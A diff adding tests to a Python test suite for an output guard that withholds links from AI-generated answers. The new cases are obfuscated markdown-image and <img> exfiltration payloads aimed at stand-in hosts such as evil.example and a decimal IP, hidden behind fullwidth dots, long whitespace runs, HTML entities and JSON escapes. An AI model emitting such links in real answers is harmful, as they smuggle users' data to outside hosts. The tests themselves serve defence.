@@ -13,6 +13,7 @@ from roadworthy.answering.guarding import guarded
 from roadworthy.answering.records import Citation, ModelCalled, TextPiece
 from roadworthy.core.errors import Unavailable
 from roadworthy.core.ids import new_id
+from roadworthy.core.sentences import LONGEST
 from roadworthy.detectors.patterns import digits
 from roadworthy.guardrails import answer_checks
 from roadworthy.guardrails.answer_checks import Known, checks
@@ -149,6 +150,14 @@ async def test_nothing_is_told_behind_the_first_line_of_a_key_or_the_prompt(guar
         "See https://evil.example/thirty.",
         "[more][1]\n\n[1]: https://evil.example/thirty",
         "See https://hr.example.com/leave?name=ana.",
+        "![x](//evil。test/thirty)",
+        "![x](\n//1249763844/evil)",
+        "<img src='/\n/1249763844/evil'>",
+        "<img src='/" + "\t" * 3000 + "/1249763844/evil'>",
+        f"<img src={' ' * 3000}'//1249763844/evil'>",
+        f"<img src='/{'&Tab;' * 1500}/1249763844/evil'>",
+        "![x](https://hr.example.com/leave。evil)",
+        "![x](https://hr.example.com/leave\u00a0evil)",
     ],
 )
 async def test_links_that_could_carry_words_out_are_withheld(text):
@@ -156,6 +165,28 @@ async def test_links_that_could_carry_words_out_are_withheld(text):
     assert "evil" not in read
     assert "name=" not in read
     assert verdicts["links"].outcome == "blocked"
+
+
+async def test_an_address_that_is_cut_may_not_go_on():
+    address = "https://evil.example/" + "a" * 500
+    made = AnswerGuards(checks(DEFAULT, Known(question="", passages=[address]), classifier=None))
+    start = "x" * (LONGEST - len(address) - 1) + "("
+    assert await made.take(f"{start}{address}thirty)") + await made.end() == ""
+
+
+@pytest.mark.parametrize(
+    ("text", "is_blocked"),
+    [
+        ('{"a":"https://hr.example.com/leave","days":30}', False),
+        ('{"a":"https:\\/\\/hr.example.com\\/leave\\n"}', False),
+        ('{"a":"![x](\\u0068ttp\\u003a\\u002f\\u002fevil.example/s)"}', True),
+        ('{"a":"<img src=\\"//1249763844/s\\">"}', True),
+    ],
+)
+async def test_addresses_in_json_are_what_its_strings_say(text, is_blocked):
+    known = Known(question="", passages=[READ], is_text=False)
+    made = AnswerGuards(checks(DEFAULT, known, classifier=None), is_whole=True)
+    assert (await made.take(text) + await made.end() == "") == is_blocked
 
 
 async def test_a_release_may_have_a_finding_taken_out_instead():
